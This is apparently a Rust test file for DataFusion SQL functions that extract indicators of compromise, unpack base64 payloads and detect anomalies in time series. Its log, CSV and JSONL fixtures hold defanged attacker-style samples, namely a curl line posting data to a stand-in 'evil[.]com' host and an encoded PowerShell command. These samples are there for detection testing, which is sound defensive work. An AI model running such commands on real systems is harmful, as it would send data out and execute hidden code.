//! The functions in SQL: what they give is what the kernels give, whatever they are called with; and
//! a mistake is an error that says what would be right.

#![allow(
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    clippy::print_stderr,
    clippy::unwrap_used,
    missing_docs,
    reason = "tests may fail loudly"
)]

mod support;

use frames::arrow_array::types::Int8Type;
use frames::arrow_array::{
    Array, ArrayRef, DictionaryArray, Float64Array, Int64Array, LargeStringArray, RecordBatch,
    StringArray, StringViewArray,
};
use frames::datafusion::datafusion::datasource::file_format::options::ArrowReadOptions;
use frames::datafusion::datafusion::logical_expr::Volatility;
use frames::datafusion::datafusion::prelude::{
    CsvReadOptions, JsonReadOptions, SessionConfig, SessionContext,
};
use frames::datafusion::{Functions, register};
use frames::kernels::{self, Method, ONE_THREAD};
use serde_json::{Value, json};
use std::path::PathBuf;
use std::sync::Arc;
use support::{batch, rows};

const LOG: [Option<&str>; 5] = [
    Some("curl hxxp://evil[.]com/a -d 10.0.0.7"),
    Some("powershell -enc SQBFAFgAIABoAGkA"),
    None,
    Some("curl hxxp://evil[.]com/a -d 10.0.0.7"),
    Some("H4sIAAAAAAAC/8soKSmw0tdPLcvM0UvOzwUA"),
];

fn session() -> SessionContext {
    // Two threads, and batches of two rows.
    let config = SessionConfig::new()
        .with_target_partitions(2)
        .with_batch_size(2);
    let ctx = SessionContext::new_with_config(config);
    register(&ctx);
    ctx
}

/// Runs a query to its end, as rows or as the error it ends with.
fn ask(ctx: &SessionContext, query: &str) -> Result<Vec<Value>, String> {
    let runtime = tokio::runtime::Builder::new_multi_thread().build().unwrap();
    let answer = runtime.block_on(async { ctx.sql(query).await?.collect().await });
    let batches = answer.map_err(|error| error.strip_backtrace())?;
    Ok(batches.iter().flat_map(rows).collect())
}

fn table(name: &str, columns: Vec<(&str, ArrayRef)>) -> SessionContext {
    let ctx = session();
    ctx.register_batch(name, batch(columns)).unwrap();
    ctx
}

fn log(array: ArrayRef) -> SessionContext {
    let numbers = Int64Array::from_iter_values(0..LOG.len() as i64);
    table("log", vec![("n", Arc::new(numbers)), ("c", array)])
}

fn texts() -> ArrayRef {
    Arc::new(LOG.into_iter().collect::<StringArray>())
}

/// What a kernel gives, one value a row.
fn column(list: ArrayRef) -> Vec<Value> {
    let found = rows(&batch(vec![("found", list)]));
    found.iter().map(|row| row["found"].clone()).collect()
}

#[test]
fn every_encoding_gives_what_the_kernels_give() {
    let unpacker = b64unpack::Unpacker::new();
    let extractor = iocextract::Extractor::new();
    let payloads = kernels::unpack_base64(&texts(), &unpacker, ONE_THREAD).unwrap();
    let problems = kernels::unpack_base64_problems(&texts(), &unpacker, ONE_THREAD).unwrap();
    let indicators = kernels::iocs(&texts(), &extractor, ONE_THREAD).unwrap();
    assert!(payloads.values().len() >= 2 && !problems.values().is_empty());
    assert_eq!(indicators.values().len(), 4);
    let [payloads, problems, indicators] =
        [payloads, problems, indicators].map(|list| column(Arc::new(list)));
    let dictionary: DictionaryArray<Int8Type> = LOG.into_iter().collect();
    let encodings: [ArrayRef; 4] = [
        texts(),
        Arc::new(LOG.into_iter().collect::<LargeStringArray>()),
        Arc::new(LOG.into_iter().collect::<StringViewArray>()),
        Arc::new(dictionary),
    ];
    for array in encodings {
        let kind = array.data_type().clone();
        let found = ask(
            &log(array),
            "SELECT unpack_base64(c) AS p, unpack_base64_problems(c) AS q, iocs(c) AS i \
             FROM log ORDER BY n",
        );
        for (row, found) in found.unwrap().iter().enumerate() {
            assert_eq!(found["p"], payloads[row], "{kind}");
            assert_eq!(found["q"], problems[row], "{kind}");
            assert_eq!(found["i"], indicators[row], "{kind}");
        }
    }
}

#[test]
fn constants_are_worked_once_and_nulls_stay() {
    let ctx = session();
    let found = ask(
        &ctx,
        "SELECT iocs('see evil.com')[1]['value'] AS v, iocs(NULL) AS n, unpack_base64(NULL) AS p, \
         anomalies(NULL) AS a, stl(NULL, 2) AS s, iocs('') AS e",
    );
    let nothing = json!([{"v": "evil.com", "n": null, "p": null, "a": null, "s": null, "e": []}]);
    // Without `nested_expressions` DataFusion has no `[1]`.
    match found {
        Ok(found) => assert_eq!(Value::Array(found), nothing),
        Err(message) => assert!(message.contains("index"), "{message}"),
    }
    let plan = ask(&ctx, "EXPLAIN SELECT iocs('see evil.com') AS i").unwrap();
    let plan = plan[0]["plan"].as_str().unwrap().to_owned();
    assert!(
        plan.contains("evil.com") && !plan.contains("iocs("),
        "{plan}"
    );
}

#[test]
fn indicators_of_some_types_only() {
    let found = |query| ask(&log(texts()), query);
    let types = found(
        "SELECT i['type'] AS t, count(*) AS n FROM (SELECT unnest(iocs(c, 'url, email')) AS i FROM log) \
         GROUP BY t",
    );
    assert_eq!(types.unwrap(), [json!({"t": "url", "n": 2})]);
    let error = found("SELECT iocs(c, 'url,nothing') FROM log").unwrap_err();
    assert!(
        error.contains("nothing") && error.contains("ipv4, ipv6"),
        "{error}"
    );
    let error = found("SELECT iocs(c, c) FROM log").unwrap_err();
    assert!(
        error.contains("iocs: `types` must be a constant"),
        "{error}"
    );
    let error = found("SELECT iocs(c, 7) FROM log").unwrap_err();
    assert!(
        error.contains("iocs: `types` must be text, not 7"),
        "{error}"
    );
}

#[test]
fn mistakes_are_named() {
    let ctx = log(texts());
    let cases = [
        (
            "iocs(n)",
            "iocs is called as iocs(text [, types]) with text or bytes, not Int64",
        ),
        ("iocs()", "iocs is called as iocs(text [, types])"),
        (
            "iocs(c, 'url', 3)",
            "iocs is called as iocs(text [, types])",
        ),
        (
            "unpack_base64(n)",
            "unpack_base64(text) with text or bytes, not Int64",
        ),
        (
            "unpack_base64_problems(c, 1)",
            "unpack_base64_problems(text)",
        ),
        (
            "stl(c, 24)",
            "stl is called as stl(series, period [, seasonal]) with a list of numbers, or of structs \
             of `time` (a timestamp, a date, an integer or text) and `value` (a number), not Utf8",
        ),
        (
            "stl(array_agg(n))",
            "stl is called as stl(series, period [, seasonal])",
        ),
        (
            "stl(array_agg(n), 0)",
            "stl: `period` must be a positive integer, not 0",
        ),
        (
            "stl(array_agg(n), 1)",
            "stl: the period is 1, required are at least 2 points",
        ),
        (
            "stl(array_agg(n), 2, 8)",
            "the span of the seasonal smoother is 8, required is an odd number",
        ),
        (
            "anomalies(array_agg(n), 1)",
            "anomalies: the period is 1, required are at least 2 points",
        ),
        (
            "stl(array_agg(n), 2.5)",
            "stl: `period` must be a positive integer, not 2.5",
        ),
        ("stl(array_agg(n), NULL)", "stl: `period` must not be null"),
        (
            "anomalies(array_agg(c))",
            "anomalies(series [, period [, threshold]]) with a list of numbers",
        ),
        (
            "anomalies(array_agg(n), 24, 'x')",
            "anomalies: `threshold` must be a number, not x",
        ),
        (
            "anomalies(array_agg(n), 24, -1)",
            "anomalies: `threshold` must not be negative",
        ),
        (
            "anomalies(array_agg(named_struct('when', n, 'value', n)))",
            "anomalies(series [, period [, threshold]]) with a list of numbers, or of structs of",
        ),
    ];
    for (call, expected) in cases {
        let error = ask(&ctx, &format!("SELECT {call} FROM log")).unwrap_err();
        assert!(error.contains(expected), "{call}: {error}");
    }
}

/// Hourly values of some hosts; the order of the rows is not that of the hours.
fn traffic() -> RecordBatch {
    let (hosts, hours) = (5, 24 * 10);
    let rows: Vec<(i32, i64)> = (0..hours)
        .rev()
        .flat_map(|hour| (0..hosts).map(move |host| (host, hour)))
        .collect();
    let value = |&(host, hour): &(i32, i64)| match (host, hour) {
        // The third host has a spike, the fourth a dip, the last a gap.
        (2, 100) => Some(500.0),
        (3, 77) => Some(-500.0),
        (4, 50) => None,
        _ => Some((hour % 24) as f64 + f64::from(host) + (hour * 7 % 5) as f64),
    };
    let names: Vec<String> = rows.iter().map(|(host, _)| format!("h{host}")).collect();
    let names = StringArray::from(names);
    batch(vec![
        ("host", Arc::new(names)),
        (
            "t",
            Arc::new(Int64Array::from_iter_values(
                rows.iter().map(|&(_, hour)| hour),
            )),
        ),
        (
            "v",
            Arc::new(rows.iter().map(value).collect::<Float64Array>()),
        ),
    ])
}

#[test]
fn a_series_for_each_host() {
    let ctx = session();
    ctx.register_batch("traffic", traffic()).unwrap();
    let found = ask(
        &ctx,
        "SELECT host, a['time'] AS t, a['value'] AS v, a['anomalies'] AS flag FROM (
             SELECT host, unnest(anomalies(array_agg(named_struct('time', t, 'value', v) ORDER BY t))) AS a
             FROM traffic GROUP BY host)
         WHERE a['anomalies'] <> 0 ORDER BY host",
    );
    let expected = [
        json!({"host": "h2", "t": 100, "v": 500.0, "flag": 1}),
        json!({"host": "h3", "t": 77, "v": -500.0, "flag": -1}),
    ];
    assert_eq!(found.unwrap(), expected);
    // Without times, a given period, a threshold that nothing reaches.
    let found = ask(
        &ctx,
        "SELECT count(*) AS points, count(a['score']) AS scored, count(a['problem']) AS problems, \
                sum(abs(a['anomalies'])) AS found FROM (
             SELECT unnest(anomalies(array_agg(v ORDER BY t), 24, 1e9)) AS a FROM traffic GROUP BY host)",
    );
    assert_eq!(
        found.unwrap(),
        [json!({"points": 1200, "scored": 1199, "problems": 0, "found": 0})]
    );
    let found = ask(
        &ctx,
        "SELECT host, a['problem'] AS problem FROM (
             SELECT host, unnest(stl(array_agg(v ORDER BY t), 200)) AS a FROM traffic GROUP BY host)
         WHERE a['value'] IS NULL",
    );
    let found = found.unwrap();
    assert_eq!(found.len(), 1);
    assert!(
        found[0]["problem"].as_str().unwrap().contains("400"),
        "{found:?}"
    );
}

/// In one piece or in many, by the engine or by hand.
#[test]
fn stl_in_sql_is_stl() {
    let ctx = session();
    ctx.register_batch("traffic", traffic()).unwrap();
    let found = ask(
        &ctx,
        "SELECT stl(array_agg(v ORDER BY t), 24) AS s FROM traffic WHERE host = 'h2'",
    );
    let list = ask(&ctx, "SELECT v FROM traffic WHERE host = 'h2' ORDER BY t").unwrap();
    let values: Vec<f64> = list.iter().map(|row| row["v"].as_f64().unwrap()).collect();
    let fit = timeseries::Stl::new(24).robust(true).fit(&values).unwrap();
    let found = found.unwrap();
    let points = found[0]["s"].as_array().unwrap();
    assert_eq!(points.len(), values.len());
    for (place, point) in points.iter().enumerate() {
        assert_eq!(point["seasonal"], json!(fit.seasonal[place]));
        assert_eq!(point["residual"], json!(fit.residual[place]));
    }
    let anomalies = ask(
        &ctx,
        "SELECT anomalies(array_agg(v ORDER BY t)) AS s FROM traffic WHERE host = 'h2'",
    );
    let list = frames::arrow_array::ListArray::from_iter_primitive::<
        frames::arrow_array::types::Float64Type,
        _,
        _,
    >([Some(values.into_iter().map(Some))]);
    let alone = kernels::anomalies(&list, &Method::default(), ONE_THREAD).unwrap();
    assert_eq!(anomalies.unwrap()[0]["s"], column(Arc::new(alone))[0]);
}

#[test]
fn the_functions_are_immutable_and_documented() {
    let udfs = Functions::new().udfs();
    assert_eq!(udfs.len(), 5);
    for udf in udfs {
        assert_eq!(
            udf.signature().volatility,
            Volatility::Immutable,
            "{}",
            udf.name()
        );
        let documentation = udf.documentation().unwrap();
        assert!(documentation.syntax_example.starts_with(udf.name()));
    }
}

/// A folder that is removed again.
struct Folder(PathBuf);

impl Folder {
    fn new(name: &str) -> Folder {
        let folder = std::env::temp_dir().join(format!("frames-{}-{name}", std::process::id()));
        std::fs::create_dir_all(&folder).unwrap();
        Folder(folder)
    }

    fn write(&self, name: &str, content: &str) -> String {
        let path = self.0.join(name);
        std::fs::write(&path, content).unwrap();
        path.to_string_lossy().into_owned()
    }
}

impl Drop for Folder {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

const CSV: &str = "host,command,other
ws1,curl hxxp://evil[.]com/a,1
ws2,dir,2
ws1,ping 10.1.2.3,3
";

const JSONL: &str = r#"{"host":"ws1","command":"curl hxxp://evil[.]com/a","other":1}
{"host":"ws2","command":"dir","other":2}
{"host":"ws1","command":"ping 10.1.2.3","other":3}
"#;

/// The same answer from files of every kind, and no column is read that is not asked for.
#[test]
fn files_are_read_no_further_than_needed() {
    let folder = Folder::new("files");
    let csv = folder.write("log.csv", CSV);
    let jsonl = folder.write("log.json", JSONL);
    let ctx = session();
    let runtime = tokio::runtime::Builder::new_multi_thread().build().unwrap();
    runtime.block_on(async {
        ctx.register_csv("csv", &csv, CsvReadOptions::new())
            .await
            .unwrap();
        ctx.register_json("json", &jsonl, JsonReadOptions::default())
            .await
            .unwrap();
    });
    let arrow = folder.0.join("log.arrow").to_string_lossy().into_owned();
    ask(&ctx, &format!("COPY csv TO '{arrow}' STORED AS ARROW")).unwrap();
    runtime
        .block_on(ctx.register_arrow("arrow", &arrow, ArrowReadOptions::default()))
        .unwrap();
    for table in ["csv", "json", "arrow"] {
        let query = format!(
            "SELECT host, i['value'] AS value FROM (SELECT host, unnest(iocs(command)) AS i FROM {table})
             WHERE host = 'ws1' ORDER BY value"
        );
        let found = ask(&ctx, &query).unwrap();
        let expected = [
            json!({"host": "ws1", "value": "10.1.2.3"}),
            json!({"host": "ws1", "value": "http://evil.com/a"}),
        ];
        assert_eq!(found, expected, "{table}");
        let plan = plan(&ctx, &query);
        // The filter stands below the function, next to the file, and `other` is not read.
        let (function, filter) = (
            plan.find("iocs(").unwrap(),
            plan.find("FilterExec: host").unwrap(),
        );
        assert!(function < filter, "{plan}");
        let source = plan
            .lines()
            .find(|line| line.contains("DataSourceExec"))
            .unwrap();
        assert!(source.contains("projection=[host, command]"), "{source}");
    }
}

/// The physical plan.
fn plan(ctx: &SessionContext, query: &str) -> String {
    let plans = ask(ctx, &format!("EXPLAIN FORMAT INDENT {query}")).unwrap();
    let physical = plans
        .iter()
        .find(|plan| plan["plan_type"] == "physical_plan");
    physical.unwrap()["plan"].as_str().unwrap().to_owned()
}
